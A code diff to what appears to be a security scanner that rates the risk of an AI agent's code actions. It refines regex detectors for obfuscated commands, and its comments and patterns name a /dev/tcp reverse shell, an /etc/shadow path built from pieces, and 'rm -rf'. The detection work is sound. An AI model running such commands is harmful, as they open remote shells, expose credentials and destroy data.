@@ -87,9 +87,9 @@ _SPACE_JOINED_LIST = re.compile(r"""\[\s*((?:(?:['"][^'"\n]*['"]|[A-Za-z_$][\w$.
 _EMPTY_JOINED_LIST = re.compile(r"""\[\s*((?:(['"])[^'"\n]*\2\s*,\s*)+(['"])[^'"\n]*\3)\s*,?\s*\]\.join\(\s*(['"])\4\s*\)|"""
                                 r"""(['"])\5\.join\(\s*[\[(]\s*((?:(['"])[^'"\n]*\7\s*,\s*)+(['"])[^'"\n]*\8)\s*,?\s*[\])]\s*\)""")
 # Literals in a list joined with `/` or `.` (`["", "etc", "shadow"].join("/")`, `".".join(["", "docker"])`): the text.
-_SEPARATOR_JOINED_LIST = re.compile(
+_SEPARATOR_JOINED_LIST = GuardedPattern(re.compile(
     r"""\[\s*((?:(['"])[^'"\n]*\2\s*,\s*)+(['"])[^'"\n]*\3)\s*,?\s*\]\.join\(\s*(['"])([/.])\4\s*\)|"""
-    r"""(['"])([/.])\6\.join\(\s*[\[(]\s*((?:(['"])[^'"\n]*\9\s*,\s*)+(['"])[^'"\n]*\10)\s*,?\s*[\])]\s*\)""")
+    r"""(['"])([/.])\6\.join\(\s*[\[(]\s*((?:(['"])[^'"\n]*\9\s*,\s*)+(['"])[^'"\n]*\10)\s*,?\s*[\])]\s*\)"""))
 # A shell wired to a network socket through bash's /dev/tcp (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), held in a literal.
 _SHELL_OVER_TCP = re.compile(r"(?:ba)?sh\s+-i\b[^'\"\n]*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^'\"\n]*0>&1|"
                              r"(?:ba)?sh\s+-i\s*>&\s*\S+\s+0>&1")  # an interactive shell's input and output wired to one place
@@ -266,16 +266,16 @@ _CHARACTER_CODES = re.compile(r"(?:intToUtf8\(\s*c\(|string\.char\(|fromCharCode
 # `bytes.fromhex("6165").decode()`, JavaScript's `String.fromCharCode(97, 101)`, Dart's `String.fromCharCodes([97, 101])`;
 # base64 a call decodes (`b64decode("…")`, `atob("…")`, Dart's `base64.decode("…")`, Java's `getDecoder().decode("…")`).
 _CODES = r"\s*((?:\d{1,3}\s*,\s*)*\d{1,3})\s*,?\s*"
-_SPELLED_TEXT = re.compile(
+_SPELLED_TEXT = GuardedPattern(re.compile(
     rf"(?<![\w.])chr\(\s*(\d{{1,3}})\s*\)|\bString\.fromCharCodes?\(\s*\[?{_CODES}\]?\s*\)|"
     rf"""(['"])\3\.join\(\s*(?:map\(\s*chr\s*,\s*[\[(]{_CODES}[\])]\s*\)|chr\(\s*(\w+)\s*\)\s*for\s+\5\s+in\s+[\[(]{_CODES}[\])])\s*\)|"""
     rf"""\bbytes\(\s*\[{_CODES}\]\s*\)\.decode\(\s*(?:['"][\w-]+['"])?\s*\)|"""
     r"""\b(?:bytes|bytearray)\.fromhex\(\s*(['"])((?:[0-9a-fA-F]{2})+)\8\s*\)\.decode\(\s*(?:['"][\w-]+['"])?\s*\)|"""
-    r"""(?:\b(?:b64decode|base64\.decode|base64Decode|atob|FromBase64String)|\.getDecoder\(\)\.decode)\(\s*(['"])([A-Za-z0-9+/]{8,}={0,2})\10\s*\)""")
+    r"""(?:\b(?:b64decode|base64\.decode|base64Decode|atob|FromBase64String)|\.getDecoder\(\)\.decode)\(\s*(['"])([A-Za-z0-9+/]{8,}={0,2})\10\s*\)"""))
 # Bun's and zx's shell templates: `` await $`rm -rf ${dir}` `` runs the template's text in a shell.
-_SHELL_TEMPLATE = re.compile(r"(?<![\w$])\$`([^`]*)`")
+_SHELL_TEMPLATE = GuardedPattern(re.compile(r"(?<![\w$])\$`([^`]*)`"))
 # Deno's `new Deno.Command("rm", { args: ["-rf", dir] })`, read as the `spawn("rm", ["-rf", dir])` it is.
-_DENO_COMMAND = re.compile(r"""\bnew\s+Deno\.Command\(\s*((['"])[^'"\n]+\2)\s*,\s*\{\s*args\s*:\s*\[""")
+_DENO_COMMAND = GuardedPattern(re.compile(r"""\bnew\s+Deno\.Command\(\s*((['"])[^'"\n]+\2)\s*,\s*\{\s*args\s*:\s*\["""))
 # A shell call whose command is not a literal: with a download in the same code, it runs what was downloaded.
 _COMPUTED_SHELL_CALL = re.compile(r"(?:os\.system|os\.popen|subprocess\.\w+|Popen|check_output|:os\.cmd)\s*\(\s*+(?![rbf]?['\"\[])|"
                                   r"\|>\s*:os\.cmd\(\s*\)|"
@@ -339,6 +339,7 @@ def code_risks(code: str, ctx: ActionContext, from_file: bool = False) -> tuple[
     secrets' names it mentions as data (a guard's list, a test's cases, a scanner's patterns)."""
     code = _PHP_SEPARATOR.sub("'/'", _PATH_SEPARATOR.sub('"/"', code))
     spelled, code = code, _spelled_out(code)
+    spelled_out = code != spelled
     code = _DENO_COMMAND.sub(r"spawn(\1, [", code)
     if "FileSystemBind" in code:
         code = _with_container_binds(code)
@@ -437,7 +438,7 @@ def code_risks(code: str, ctx: ActionContext, from_file: bool = False) -> tuple[
                                 "act.code.reverse_shell"))
     risks.append(ActionRisk(ESCALATE, "code", "runs arbitrary inline code", "act.shell.inline_code"))
     commands = [_HOME_INTERPOLATION.sub("~", m.group(2)) for m in _SHELL_CALL.finditer(code)] + _decoded_literals(code)
-    commands += [t for t in _decoded_literals(spelled) if t not in commands]
+    commands += [t for t in _decoded_literals(spelled) if t not in commands] if spelled_out else []
     commands += _operator_commands(code) + _argv_commands(code) + pipeline_steps(code) + scala_processes(code) + cake_processes(code)
     commands += [m.group(1).replace('\\"', '"') for m in _TUIST_SCRIPT.finditer(code)]
     commands += [_HOME_INTERPOLATION.sub("~", m.group(1)) for m in _SHELL_TEMPLATE.finditer(code)]
